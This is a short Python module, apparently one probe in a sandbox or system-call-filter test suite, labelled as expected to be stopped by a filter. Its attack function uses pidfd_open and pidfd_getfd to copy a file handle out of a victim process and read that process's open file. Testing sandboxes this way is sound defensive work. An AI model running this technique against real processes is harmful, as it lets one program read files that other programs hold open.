"""Take an open file out of another process."""

from __future__ import annotations

import os
from typing import Any

EVIDENCE = "leaked"
STOPPED_BY = "filter"
MEANS = "it reads the files that your programs have open"
NEEDS = ("victim",)


def attack(at: Any) -> object:
    handle = at.call("pidfd_open", at.victim, 0)
    return os.pread(at.call("pidfd_getfd", handle, at.victim_file, 0), 200, 0)
